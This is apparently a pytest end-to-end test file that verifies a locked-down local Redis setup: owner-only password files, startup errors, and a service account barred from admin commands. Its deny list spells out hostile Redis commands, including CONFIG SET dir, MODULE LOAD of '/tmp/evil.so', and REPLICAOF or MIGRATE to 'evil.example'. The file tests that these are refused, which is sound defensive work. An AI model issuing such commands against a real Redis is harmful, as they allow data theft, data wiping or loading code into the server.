"""`make redis` locked (SPEC §16.4): a password made on the first start, in a file only its owner
reads; the service's credentials cannot reconfigure Redis; `make worker` and `make run` read the
password when their URL names that Redis without one; a missing file is one line and exit 2.
Against real processes: `python -m app.celery_engine.redis_server` (what `make redis` runs), the
worker `make worker` runs and `api_server.py`.
"""

from __future__ import annotations

import os
import signal
import stat
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import redis
import requests

from app import config
from app.celery_engine import password
from app.celery_engine.password import ADMIN_FILE, ADMIN_USER, SERVICE_FILE
from app.config import StartupError
from unittests.conftest import OBESITY
from unittests.support.celery_stack import WorkerProcess, redis_binary
from unittests.support.servers import ROOT, Server, end_process, free_port

pytestmark = pytest.mark.e2e

#: Commands the service's credentials must not run: each can reconfigure Redis, write files as
#: its user, load code, stop it, replicate it elsewhere or wipe it whole.
REFUSED = [
    ("CONFIG", "SET", "dir", "/tmp"),
    ("CONFIG", "GET", "*"),
    ("CONFIG", "REWRITE"),
    ("DEBUG", "SLEEP", "0"),
    ("MODULE", "LIST"),
    ("MODULE", "LOAD", "/tmp/evil.so"),
    ("ACL", "SETUSER", "default", "+@all"),
    ("ACL", "LIST"),
    ("SHUTDOWN", "NOSAVE"),
    ("REPLICAOF", "evil.example", "6379"),
    ("SLAVEOF", "evil.example", "6379"),
    ("MIGRATE", "evil.example", "6379", "lss:ids", "0", "1000"),
    ("FLUSHALL",),
    ("FLUSHDB",),
    ("BGSAVE",),
    ("SAVE",),
    ("KEYS", "*"),
    ("MONITOR",),
    ("CLIENT", "KILL", "TYPE", "normal"),
]


class MakeRedis:
    """`python -m app.celery_engine.redis_server`, as `make redis` runs it, on a free port."""

    def __init__(self, folder: Path, **env: str) -> None:
        redis_binary()  # skips, saying why, where no redis-server is installed
        self.folder, self.port = folder, free_port()
        self.env = dict(os.environ, LSS_REDIS_PORT=str(self.port), LSS_REDIS_DIR=str(folder))
        self.env.update(env)
        self.proc = subprocess.Popen(
            [sys.executable, "-m", "app.celery_engine.redis_server"],
            cwd=ROOT,
            env=self.env,
            stdout=subprocess.PIPE,
            stderr=subprocess.STDOUT,
        )
        deadline = time.monotonic() + 20
        while True:
            try:
                if self.client(ADMIN_USER, self.secret(ADMIN_FILE)).ping():
                    return
            except (redis.ConnectionError, OSError):
                assert time.monotonic() < deadline and self.proc.poll() is None
                time.sleep(0.02)

    def secret(self, name: str) -> str:
        return (self.folder / name).read_text().strip()

    def client(self, username: str | None = None, secret: str | None = None) -> redis.Redis:
        return redis.Redis(port=self.port, username=username, password=secret, socket_timeout=5)

    def stop(self) -> int:
        self.proc.send_signal(signal.SIGTERM)
        return self.proc.wait(timeout=10)


@pytest.fixture
def make_redis(tmp_path: Path) -> Iterator[MakeRedis]:
    started = MakeRedis(tmp_path / "redis-data")
    yield started
    end_process(started.proc)


def test_make_redis_makes_its_passwords_only_its_owner_reads(make_redis: MakeRedis) -> None:
    folder = make_redis.folder
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    for name in (SERVICE_FILE, ADMIN_FILE):
        assert stat.S_IMODE((folder / name).stat().st_mode) == 0o600, name
        assert len(make_redis.secret(name)) >= 43  # 32 random bytes
    assert make_redis.secret(SERVICE_FILE) != make_redis.secret(ADMIN_FILE)
    banner = make_redis.proc.stdout.readline().decode()  # type: ignore[union-attr]
    assert str(folder / SERVICE_FILE) in banner and "maxmemory 512mb" in banner
    assert not any(make_redis.secret(name) in banner for name in (SERVICE_FILE, ADMIN_FILE)), (
        "a password printed"
    )


def test_a_local_client_without_the_password_is_refused(make_redis: MakeRedis) -> None:
    """The hostile local process of the issue: no password, a wrong one, the admin's name."""
    for username, secret in ((None, None), (None, "guess"), (ADMIN_USER, "guess")):
        client = make_redis.client(username, secret)
        with pytest.raises((redis.AuthenticationError, redis.ResponseError)):
            client.execute_command("CONFIG", "SET", "dir", "/tmp")
        with pytest.raises((redis.AuthenticationError, redis.ResponseError)):
            client.get("lss:ids")
    admin = make_redis.client(ADMIN_USER, make_redis.secret(ADMIN_FILE))
    assert admin.config_get("dir")["dir"] == str(make_redis.folder)  # nothing moved


def test_the_services_credentials_cannot_reconfigure_redis(make_redis: MakeRedis) -> None:
    service = make_redis.client(secret=make_redis.secret(SERVICE_FILE))
    assert service.incr("lss:ids") == 1  # what the service does, it may
    assert service.info("memory")["maxmemory"] == 512 << 20  # how full Redis is, read only
    for command in REFUSED:
        with pytest.raises(redis.exceptions.NoPermissionError):
            service.execute_command(*command)
    admin = make_redis.client(ADMIN_USER, make_redis.secret(ADMIN_FILE))
    settings = admin.config_get("*")
    assert settings["dir"] == str(make_redis.folder)
    assert (settings["bind"], settings["appendonly"]) == ("127.0.0.1", "yes")
    assert (settings["maxmemory"], settings["maxmemory-policy"]) == (str(512 << 20), "noeviction")
    assert admin.execute_command("CONFIG", "SET", "maxmemory", "600mb") == b"OK"  # the operator


def test_make_redis_keeps_its_passwords_and_data_across_restarts(tmp_path: Path) -> None:
    first = MakeRedis(tmp_path / "data", LSS_REDIS_MAXMEMORY="64MB")
    try:
        secret = first.secret(SERVICE_FILE)
        first.client(secret=secret).set("lss:ids", 41)
        admin = first.client(ADMIN_USER, first.secret(ADMIN_FILE))
        assert admin.config_get("maxmemory")["maxmemory"] == str(64 << 20)
    finally:
        assert first.stop() == 0
    second = MakeRedis(tmp_path / "data", LSS_REDIS_MAXMEMORY="64MB")
    try:
        assert second.secret(SERVICE_FILE) == secret
        assert second.client(secret=secret).incr("lss:ids") == 42
    finally:
        assert second.stop() == 0


def test_make_redis_refuses_a_password_file_others_can_read(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    password.ensure(folder)
    (folder / SERVICE_FILE).chmod(0o644)
    done = subprocess.run(
        [sys.executable, "-m", "app.celery_engine.redis_server"],
        cwd=ROOT,
        env=dict(os.environ, LSS_REDIS_DIR=str(folder), LSS_REDIS_PORT=str(free_port())),
        capture_output=True,
        text=True,
        timeout=30,
    )
    assert done.returncode == 2
    assert done.stderr.splitlines() == [
        f"le-stats-sportif redis: cannot start: Redis password file {folder / SERVICE_FILE} can "
        f"be read by other users (mode 0644): `chmod 600 {folder / SERVICE_FILE}`"
    ]


def test_a_password_file_is_never_seen_half_made_or_open(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Whatever the umask, the file gets its name with mode 0600 and its whole content; two
    first starts at once agree on one password."""
    seen: list[tuple[int, int]] = []
    real_link = os.link

    def link(source: Any, target: Any, **kwargs: Any) -> None:
        info = os.stat(source)
        seen.append((stat.S_IMODE(info.st_mode), info.st_size))
        real_link(source, target, **kwargs)

    monkeypatch.setattr(os, "link", link)
    old = os.umask(0)
    try:
        found: list[password.Passwords] = []
        racers = [
            threading.Thread(target=lambda: found.append(password.ensure(tmp_path / "data")))
            for _ in range(4)
        ]
        (tmp_path / "data").mkdir()
        for racer in racers:
            racer.start()
        for racer in racers:
            racer.join()
    finally:
        os.umask(old)
    assert len(set(found)) == 1 and len(found) == 4
    assert seen and all(mode == 0o600 and size == 44 for mode, size in seen)
    assert sorted(p.name for p in (tmp_path / "data").iterdir()) == [ADMIN_FILE, SERVICE_FILE]


def test_a_local_url_without_a_password_gets_the_files(tmp_path: Path) -> None:
    folder = tmp_path / "data"
    folder.mkdir()
    secret = password.ensure(folder).service
    settings = config.load({"LSS_REDIS_PORT": "6400", "LSS_REDIS_DIR": str(folder)})
    expected = f"redis://:{secret}@127.0.0.1:6400/0"
    assert password.broker_url(settings) == expected  # make worker, LSS_BROKER_URL unset
    for url, completed in (
        ("redis://127.0.0.1:6400/0", expected),
        ("redis://localhost:6400/2", f"redis://:{secret}@localhost:6400/2"),
        ("redis://:given@127.0.0.1:6400/0", "redis://:given@127.0.0.1:6400/0"),  # the URL's wins
        ("redis://:@127.0.0.1:6400/0", "redis://:@127.0.0.1:6400/0"),  # "no password", said so
        ("redis://127.0.0.1:6379/0", "redis://127.0.0.1:6379/0"),  # another port: not ours
        ("rediss://cache.example:6400/0", "rediss://cache.example:6400/0"),  # another host
    ):
        assert password.with_password(url, settings) == completed, url
    (folder / SERVICE_FILE).unlink()
    with pytest.raises(StartupError, match=f"Redis password file {folder / SERVICE_FILE}: "):
        password.with_password("redis://127.0.0.1:6400/0", settings)
    assert password.with_password("redis://:x@127.0.0.1:6400/0", settings)  # no file needed


@pytest.mark.parametrize("program", ["worker", "service"])
def test_no_password_file_for_a_local_url_is_one_line_and_exit_2(
    tmp_path: Path, program: str
) -> None:
    """`make worker` (LSS_BROKER_URL unset) and `make run` (LSS_BROKER_URL naming the local
    Redis) before `make redis` ever ran: one line naming the file, exit 2, nothing else."""
    port = str(free_port())
    env = dict(os.environ, LSS_REDIS_PORT=port, LSS_REDIS_DIR=str(tmp_path / "none"))
    env.update(LSS_LOG_FILE=str(tmp_path / "log"), LSS_PORT=str(free_port()))
    env.pop("LSS_BROKER_URL", None)
    argv = [sys.executable, "-m", "app.celery_engine.worker"]
    if program == "service":
        env["LSS_BROKER_URL"] = f"redis://localhost:{port}/0"
        argv = [sys.executable, "api_server.py"]
    done = subprocess.run(argv, cwd=ROOT, env=env, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2
    prefix = "le-stats-sportif worker" if program == "worker" else "le-stats-sportif"
    assert done.stderr.splitlines() == [
        f"{prefix}: cannot start: Redis password file {tmp_path / 'none' / SERVICE_FILE}: cannot "
        "read it (No such file or directory); `make redis` makes it on its first start, or put "
        "the password in LSS_BROKER_URL"
    ]


def test_make_worker_and_make_run_find_the_password_themselves(
    make_redis: MakeRedis, tmp_path: Path, start_server: Any
) -> None:
    """The three commands of docs/scaling-out.md, none given a password: a job is answered."""
    worker = WorkerProcess(tmp_path / "worker", "", **make_redis.env)
    try:
        worker.wait_ready()
        server: Server = start_server(
            **make_redis.env, LSS_BROKER_URL=f"redis://127.0.0.1:{make_redis.port}/0"
        )
        job = requests.post(f"{server.url}/api/global_mean", json={"question": OBESITY}, timeout=5)
        job_id = job.json()["job_id"]
        deadline = time.monotonic() + 20
        while (body := requests.get(f"{server.url}/api/get_results/{job_id}", timeout=5).json())[
            "status"
        ] == "running":
            assert time.monotonic() < deadline
            time.sleep(0.05)
        assert body["status"] == "done"
        assert make_redis.secret(SERVICE_FILE) not in worker.text  # the banner hides it
    finally:
        worker.close()
